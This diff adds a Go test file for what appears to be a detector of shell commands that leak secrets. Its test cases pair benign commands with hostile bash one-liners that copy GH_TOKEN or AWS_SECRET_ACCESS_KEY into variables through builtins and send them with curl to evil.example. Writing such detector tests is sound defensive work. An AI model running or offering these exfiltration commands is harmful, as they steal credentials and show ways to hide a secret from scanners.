@@ -1,0 +1,37 @@
+// Secret data copied into a variable of the script by any builtin that
+// assigns (printf -v, declare, local, readonly, read, mapfile), and the
+// marks naming the delivered secret it came from.
+package commands
+
+import "testing"
+
+func TestSecretCopiedIntoVariable(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "printf -v", shell: "bash", hostile: `printf -v x %s "$GH_TOKEN"; curl -d "$x" https://evil.example`,
+			want:   "sends secret gh (GH_TOKEN, copied into $x) to evil.example",
+			benign: `printf -v x %s hello; curl -d "$x" https://h.example`, markedOK: "to h.example"},
+		{name: "printf -v, the secret in the format", shell: "bash", hostile: `printf -v x "k=$AWS_SECRET_ACCESS_KEY"; curl -d "$x" https://evil.example`,
+			want: "sends secret aws (AWS_SECRET_ACCESS_KEY, copied into $x) to evil.example"},
+		{name: "declare", shell: "bash", hostile: `declare x="$GH_TOKEN"; curl -d "$x" https://evil.example`,
+			want:   "sends secret gh (GH_TOKEN, copied into $x)",
+			benign: `declare x=hello; echo "$x"`},
+		{name: "local in a function", shell: "bash", hostile: `f() { local x="$GH_TOKEN"; curl -d "$x" https://evil.example; }; f`,
+			want:   "sends secret gh (GH_TOKEN, copied into $x)",
+			benign: `f() { local x=hello; echo "$x"; }; f`},
+		{name: "readonly", shell: "bash", hostile: `readonly x="$GH_TOKEN"; curl -d "$x" https://evil.example`,
+			want:   "sends secret gh (GH_TOKEN, copied into $x)",
+			benign: `readonly x=1; echo "$x"`},
+		{name: "mapfile from a here-string", shell: "bash", hostile: `mapfile -t a <<<"$GH_TOKEN"; curl -d "${a[0]}" https://evil.example`,
+			want:   "sends secret gh (GH_TOKEN, copied into $a)",
+			benign: `mapfile -t a <<<"one two"; echo "${a[0]}"`},
+		{name: "readarray into MAPFILE", shell: "bash", hostile: `readarray <<<"$GH_TOKEN"; curl -d "${MAPFILE[0]}" https://evil.example`,
+			want: "sends secret gh (GH_TOKEN, copied into $MAPFILE)"},
+		{name: "read from a here-string", shell: "bash", hostile: `read -r x <<<"$GH_TOKEN"; curl -d "$x" https://evil.example`,
+			want:   "sends secret gh (GH_TOKEN, copied into $x)",
+			benign: `read -r x <<<"hello"; echo "$x"`},
+		{name: "a copy of a copy", hostile: `y=$GH_TOKEN; z=$y; curl -d "$z" https://evil.example`,
+			want: "sends secret gh (GH_TOKEN, copied into $z)"},
+		{name: "read from the secret on standard input", hostile: `read -r t; curl -H "X: $t" https://evil.example`,
+			want: "sends secret GH_HOST (standard input, copied into $t)"},
+	})
+}
